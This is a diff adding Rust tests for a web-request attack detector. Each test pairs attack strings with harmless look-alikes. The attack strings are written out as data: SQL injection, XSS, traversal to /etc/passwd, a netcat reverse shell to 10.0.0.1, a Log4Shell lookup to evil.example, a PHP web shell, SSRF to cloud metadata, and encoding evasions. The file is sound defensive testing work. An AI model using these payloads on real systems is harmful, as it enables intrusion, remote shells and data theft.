@@ -1,0 +1,271 @@
+//! Each detector and evasion, with a benign twin that must not fire; no
+//! panic on arbitrary bytes; decoding is idempotent on its own output.
+
+use rasp_detect::{Class, Detector, SourceKind, normalize};
+
+fn classes(d: &Detector, v: &str, s: SourceKind) -> Vec<Class> {
+    let f = d.inspect(v.as_bytes(), s);
+    let mut c: Vec<Class> = f
+        .iter()
+        .filter(|f| f.confidence == rasp_detect::Confidence::High)
+        .map(|f| f.class)
+        .collect();
+    c.sort();
+    c.dedup();
+    c
+}
+
+fn blocks(d: &Detector, v: &str, s: SourceKind) -> bool {
+    d.inspect(v.as_bytes(), s).blocks()
+}
+
+const Q: SourceKind = SourceKind::QueryValue;
+
+#[test]
+fn attacks_and_their_benign_twins() {
+    let d = Detector::default();
+    let cases: &[(Class, &str, &str)] = &[
+        (Class::Sqli, "1' OR '1'='1", "O'Neil and Sons"),
+        (
+            Class::Sqli,
+            "-1 UNION/**/SELECT username,password FROM users--",
+            "union station, select tours",
+        ),
+        (Class::Sqli, "1; DROP TABLE users--", "drop off at table 4"),
+        (Class::Sqli, "1 AND SLEEP(5)", "sleep well"),
+        (Class::Sqli, "admin'--", "rock 'n' roll"),
+        (Class::Xss, "<script>alert(1)</script>", "<b>bold</b> text"),
+        (
+            Class::Xss,
+            "<img src=x onerror=alert(1)>",
+            "<img src=\"cat.png\">",
+        ),
+        (
+            Class::Xss,
+            "javascript:alert(document.cookie)",
+            "JavaScript: the good parts",
+        ),
+        (Class::Xss, "\"><svg/onload=alert(1)>", "5\" x 7\" photo"),
+        (Class::Traversal, "../../../../etc/passwd", "docs/intro.md"),
+        (
+            Class::Traversal,
+            "..\\..\\windows\\win.ini",
+            "C# and F# notes",
+        ),
+        (Class::Cmdi, "127.0.0.1; cat /etc/passwd", "cats; dogs"),
+        (Class::Cmdi, "$(whoami)", "cost: $5 (approx)"),
+        (Class::Cmdi, "| nc -e /bin/sh 10.0.0.1 4444", "A | B"),
+        (
+            Class::Ssrf,
+            "http://169.254.169.254/latest/meta-data/",
+            "https://example.com/latest",
+        ),
+        (
+            Class::Ssrf,
+            "http://2130706433/",
+            "http://example.org/2130706433",
+        ),
+        (
+            Class::Ssrf,
+            "gopher://127.0.0.1:6379/_FLUSHALL",
+            "the gopher is out",
+        ),
+        (
+            Class::Nosqli,
+            "{\"$where\": \"sleep(100)\"}",
+            "{\"where\": \"here\"}",
+        ),
+        (Class::Ldapi, "*)(uid=*))(|(uid=*", "(555) 123-4567"),
+        (Class::Ssti, "{{7*7}}", "{{ name }}"),
+        (
+            Class::Ssti,
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "price: $5",
+        ),
+        (Class::Jndi, "${jndi:ldap://evil.example/a}", "${HOME}/bin"),
+        (
+            Class::Shellshock,
+            "() { :; }; /bin/cat /etc/passwd",
+            "() => {}",
+        ),
+        (
+            Class::Php,
+            "<?php system($_GET['c']); ?>",
+            "<? is a question",
+        ),
+        (Class::ProtoPollution, "__proto__[admin]=true", "proto-type"),
+        (Class::Ssi, "<!--#exec cmd=\"ls\" -->", "<!-- comment -->"),
+    ];
+    for (class, attack, twin) in cases {
+        assert!(
+            classes(&d, attack, Q).contains(class),
+            "{class}: {attack:?} -> {:?}",
+            d.inspect(attack.as_bytes(), Q)
+        );
+        assert!(
+            !blocks(&d, twin, Q),
+            "benign twin of {class}: {twin:?} -> {:?}",
+            d.inspect(twin.as_bytes(), Q)
+        );
+    }
+}
+
+#[test]
+fn evasions_and_their_twins() {
+    let d = Detector::default();
+    let cases: &[(&str, &str)] = &[
+        // double and triple percent-encoding
+        ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "%2525 off"),
+        // %uXXXX to the real code point (fullwidth dots and slashes)
+        (
+            "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
+            "%u00e9t%u00e9",
+        ),
+        // overlong UTF-8
+        (
+            "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
+            "caf%c3%a9",
+        ),
+        // HTML entities without semicolons, leading zeros
+        (
+            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
+            "AT&T &amp; friends",
+        ),
+        // JS escapes
+        (
+            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+            "line one\\nline two",
+        ),
+        // NUL bytes
+        ("<scr%00ipt>alert(1)</scr%00ipt>", "a%00b"),
+        // fullwidth characters
+        ("＜script＞alert(1)＜/script＞", "ｆｕｌｌｗｉｄｔｈ text"),
+        // SQL comments between keywords
+        ("1'/**/OR/**/'1'='1", "a/**/b"),
+        // shell quoting
+        ("; c'a't /et\"c\"/pa\\ss\\wd", "it's a \"quote\""),
+        // Log4Shell nested lookups
+        (
+            "${${lower:j}${lower:n}d${upper:i}:ldap://x/a}",
+            "${lower:case}",
+        ),
+        // base64-wrapped traversal
+        (
+            "Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==",
+            "SGVsbG8sIHdvcmxkISBIb3cgYXJlIHlvdT8=",
+        ),
+    ];
+    for (attack, twin) in cases {
+        assert!(blocks(&d, attack, Q), "evasion missed: {attack:?}");
+        assert!(
+            !blocks(&d, twin, Q),
+            "twin flagged: {twin:?} -> {:?}",
+            d.inspect(twin.as_bytes(), Q)
+        );
+    }
+}
+
+#[test]
+fn opaque_tokens_are_not_code() {
+    let d = Detector::default();
+    for v in [
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+        "3fa85f64-5717-4562-b3fc-2c963f66afa6",
+        "d41d8cd98f00b204e9800998ecf8427e",
+        "1234567890",
+        "-12.5",
+    ] {
+        assert!(d.inspect(v.as_bytes(), Q).is_empty(), "{v}");
+    }
+}
+
+#[test]
+fn sources_scope_rules() {
+    let d = Detector::default();
+    // shell-like prose is fine in free text, not in a parameter
+    let v = "run this; cat notes.txt | head";
+    assert!(blocks(&d, v, SourceKind::QueryValue));
+    assert!(!blocks(&d, v, SourceKind::JsonValue));
+    // scanner names only count in headers, dangerous extensions only in file names
+    assert!(blocks(&d, "sqlmap/1.7", SourceKind::Header));
+    assert!(!blocks(&d, "sqlmap/1.7", SourceKind::QueryValue));
+    assert!(blocks(&d, "shell.php", SourceKind::MultipartFilename));
+    assert!(!blocks(&d, "shell.php", SourceKind::QueryValue));
+}
+
+#[test]
+fn levels_add_rules() {
+    let v = "<b>hello</b>";
+    assert!(Detector::new(2).inspect(v.as_bytes(), Q).is_empty());
+    assert!(!Detector::new(3).inspect(v.as_bytes(), Q).is_empty());
+}
+
+#[test]
+fn findings_score_and_excerpt() {
+    let d = Detector::default();
+    let f = d.inspect(b"1' OR '1'='1", Q);
+    assert!(f.score() > 0 && f.score() <= 100);
+    let (class, score) = f.class_scores()[0];
+    assert_eq!(class, Class::Sqli);
+    assert!(score > 0);
+    for finding in &f {
+        assert!(finding.excerpt.len() <= 48);
+        assert!(finding.excerpt.bytes().all(|b| (0x20..0x7f).contains(&b)));
+    }
+}
+
+/// A deterministic generator (xorshift), so failures reproduce.
+fn bytes(seed: &mut u64, len: usize, alphabet: &[u8]) -> Vec<u8> {
+    (0..len)
+        .map(|_| {
+            *seed ^= *seed << 13;
+            *seed ^= *seed >> 7;
+            *seed ^= *seed << 17;
+            if alphabet.is_empty() {
+                (*seed >> 32) as u8
+            } else {
+                alphabet[(*seed >> 32) as usize % alphabet.len()]
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn arbitrary_bytes_never_panic() {
+    let d = Detector::new(4);
+    let mut seed = 0x2545_f491_4f6c_dd1du64;
+    let nasty: &[u8] = b"%u0123456789abcdefABCDEF&#x;\\'\"<>(){}[]$`|;/.:=-+*!@ \r\n\t\x00\xc0\xae\xe0\x80\xef\xbc";
+    for i in 0..6_000 {
+        let len = (i * 31) % 700;
+        let v = if i % 2 == 0 {
+            bytes(&mut seed, len, &[])
+        } else {
+            bytes(&mut seed, len, nasty)
+        };
+        for s in [
+            SourceKind::QueryValue,
+            SourceKind::JsonValue,
+            SourceKind::Header,
+            SourceKind::Path,
+            SourceKind::MultipartFilename,
+        ] {
+            let _ = d.inspect(&v, s);
+        }
+    }
+}
+
+#[test]
+fn decoding_is_idempotent_once_fully_decoded() {
+    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
+    let alphabet: &[u8] = b"abc<>'\"/\\.;&#x3c%20%2e ";
+    for i in 0..5_000 {
+        let v = bytes(&mut seed, i % 64, alphabet);
+        // Decoding is bounded (3 percent passes); after normalising a value
+        // twice more, a further pass changes nothing.
+        let once = normalize(&v, false).0;
+        let twice = normalize(&once, false).0;
+        let thrice = normalize(&twice, false).0;
+        let fourth = normalize(&thrice, false).0;
+        assert_eq!(thrice, fourth, "{:?}", String::from_utf8_lossy(&v));
+    }
+}
